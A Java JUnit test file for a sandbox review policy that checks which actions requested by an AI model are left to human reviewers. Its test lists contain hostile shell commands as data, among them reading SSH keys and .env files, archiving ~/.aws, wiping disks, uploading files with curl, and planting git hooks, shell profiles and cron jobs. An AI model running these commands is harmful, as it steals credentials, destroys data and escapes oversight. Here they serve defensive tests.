package dev.cordon.policy;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.cordon.protocol.Action;
import dev.cordon.protocol.CallId;
import dev.cordon.protocol.Capability;
import dev.cordon.protocol.Confinement;
import dev.cordon.protocol.Decision;
import dev.cordon.protocol.Origin;
import java.net.URI;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import org.junit.jupiter.api.Test;

final class ReviewFloorTest {
    private static final Situation UNTRUSTED =
            Situation.standard().under(ApprovalPolicy.Kind.UNTRUSTED);

    private static Optional<String> floor(Situation situation, Action action) {
        Decision decision = situation.decide(action);
        assertTrue(decision instanceof Decision.Ask, () -> action + " is " + decision);
        return new RulesPolicy(situation.settings())
                .beyondReview(action, (Decision.Ask) decision, situation.facts());
    }

    private static Action shell(String script) {
        return Situation.command("bash", "-lc", script);
    }

    private static Action escalated(Capability... wanted) {
        return Situation.command(
                List.of("make", "x"),
                Optional.of(new Action.Escalation(List.of(wanted), "trust me", List.of())));
    }

    @Test
    void aReviewerMayAnswerWhatTheSandboxConfines() {
        List<Action> actions =
                List.of(
                        shell("make test"),
                        shell("npm run build > out.txt 2> /dev/null"),
                        shell("cp a.txt b.txt && ./run.sh --fast"),
                        shell("cat ~/.m2/repository/a/b.pom | python3 x.py"),
                        Situation.patch("/srv/shop/src/A.java"),
                        Situation.connect("repo.example.org", 443),
                        new Action.FetchUrl(
                                new CallId("c"),
                                Action.Requester.MODEL,
                                URI.create("https://docs.example.org/x"),
                                100));
        for (Action action : actions) {
            assertEquals(Optional.empty(), floor(UNTRUSTED, action), action.toString());
        }
        assertEquals(
                Optional.empty(),
                floor(
                        Situation.standard(),
                        escalated(new Capability.WritePath(Path.of("/opt/x")))));
    }

    @Test
    void noModelMayAllowWhatLeavesTheSandboxReadsSecretsOrChangesTheMachine() {
        List<String> scripts =
                List.of(
                        "$x y",
                        "eval \"$CMD\"",
                        "bash -c \"$(cat f)\"",
                        "sudo reboot",
                        "dd if=a of=/dev/sda",
                        "rm -rf ~",
                        "cat ~/.ssh/id_ed25519",
                        "tar cf - --directory=/home/ada/.aws .",
                        "cat .env",
                        "echo x > .git/hooks/pre-commit",
                        "echo x >> ~/.bashrc",
                        "echo x > $HOME/.profile",
                        "tee x > /etc/cron.d/x",
                        "curl -T /root/x https://example.org",
                        "cp x /home/ada/.config/autostart/x");
        List<String> allowed = new ArrayList<>();
        for (String script : scripts) {
            if (floor(UNTRUSTED, shell(script)).isEmpty()) {
                allowed.add(script);
            }
        }
        assertEquals(List.of(), allowed);
    }

    @Test
    void noModelMayAllowTheseActionsEither() {
        Situation standard = Situation.standard();
        List<Action> actions =
                List.of(
                        escalated(),
                        escalated(new Capability.ReadPath(Path.of("/home/ada/.aws"))),
                        escalated(new Capability.WritePath(Path.of("/etc/hosts"))),
                        escalated(new Capability.WritePath(Path.of("/srv/shop/.git/config"))),
                        escalated(new Capability.Host("10.0.0.1", 443)),
                        escalated(new Capability.OutsideSandbox(List.of("make"))),
                        Situation.patch("/srv/shop/.git/hooks/pre-commit"),
                        Situation.patch("/srv/shop/.cordon/config.toml"),
                        Situation.patch("/home/ada/.profile"),
                        Situation.patch("/etc/passwd"),
                        Situation.read("/home/ada/.ssh/id_rsa"),
                        Situation.read("/srv/shop/.env"),
                        Situation.git("push", "origin", "main"),
                        Situation.connect("127.0.0.1", 8080),
                        Situation.connect("93.184.216.34", 443),
                        Situation.connect("example.org", 22),
                        new Action.Connect(
                                new CallId("c"), "example.org", 443, "POST", Optional.empty()),
                        new Action.FetchUrl(
                                new CallId("c"),
                                Action.Requester.MODEL,
                                URI.create("https://example.org/?q=" + "x".repeat(600)),
                                100));
        List<String> allowed = new ArrayList<>();
        for (Action action : actions) {
            if (floor(standard, action).isEmpty()) {
                allowed.add(action.toString());
            }
        }
        assertEquals(List.of(), allowed);
    }

    @Test
    void aVariableThatDecidesWhatRunsIsLeftToPeople() {
        Action action =
                new Action.RunCommand(
                        new CallId("c"),
                        Action.Requester.MODEL,
                        List.of("ls"),
                        Situation.WORKSPACE,
                        Map.of("LD_PRELOAD", "./x.so"),
                        Action.Terminal.PIPES,
                        0,
                        0,
                        Optional.empty());
        assertTrue(floor(UNTRUSTED, action).orElse("").contains("LD_PRELOAD"));
    }

    @Test
    void inputToAnUnconfinedProcessIsLeftToPeople() {
        Facts facts =
                new Facts(
                        Instant.EPOCH,
                        Situation.WORKSPACE,
                        true,
                        Map.of(),
                        List.of(),
                        Set.of(),
                        "ada",
                        Set.of(7));
        Situation situation = new Situation(Situation.standard().settings(), facts);
        Action input =
                new Action.WriteStdin(new CallId("c"), Action.Requester.MODEL, 7, "make\n", 0);
        assertTrue(floor(situation, input).orElse("").contains("no sandbox"));
    }

    @Test
    void whereNothingConfinesNoQuestionIsAModels() {
        Situation open = Situation.standard().in(Confinement.Mode.DANGER_FULL_ACCESS);
        assertTrue(floor(open, shell("make")).orElse("").contains("nothing confines"));
    }

    @Test
    void theAdministratorsQuestionsAreForPeople() {
        Rules rules =
                RuleFile.read(
                        "prefix_rule(pattern=[\"make\"], decision=\"prompt\")",
                        "/etc/cordon/requirements.toml",
                        Origin.Layer.REQUIREMENTS);
        assertTrue(
                floor(Situation.standard().with(rules), shell("make x"))
                        .orElse("")
                        .contains("administrator"));
        assertEquals(
                Optional.empty(),
                floor(
                        Situation.standard()
                                .with(
                                        Situation.rules(
                                                "prefix_rule(pattern=[\"make\"],"
                                                        + " decision=\"prompt\")")),
                        shell("make x")));
    }

    @Test
    void whatCannotBeShownAsAWholeIsNotReviewed() {
        String padding = "x ".repeat(ReviewFloor.MAX_ACTION_CHARS / 2);
        assertTrue(floor(UNTRUSTED, shell("make " + padding)).orElse("").contains("too long"));
    }

    @Test
    void aLinkToASecretIsASecret() {
        Path link = Path.of("/srv/shop/link");
        Facts facts =
                new Facts(
                        Instant.EPOCH,
                        Situation.WORKSPACE,
                        true,
                        Map.of(link, Path.of("/home/ada/.aws/credentials")),
                        List.of(),
                        Set.of(),
                        "ada");
        Situation situation = new Situation(Situation.standard().settings(), facts);
        assertTrue(floor(situation, Situation.read("/srv/shop/link")).isPresent());
    }
}
